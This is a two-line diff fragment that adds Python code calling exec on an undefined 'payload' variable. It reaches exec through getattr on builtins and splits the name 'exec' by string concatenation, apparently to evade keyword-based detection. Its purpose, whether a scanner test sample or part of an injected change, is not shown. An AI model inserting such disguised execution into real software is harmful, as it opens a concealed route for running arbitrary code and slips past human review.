@@ -1,0 +1,2 @@
+import builtins
+getattr(builtins, "e" + "xec")(payload)
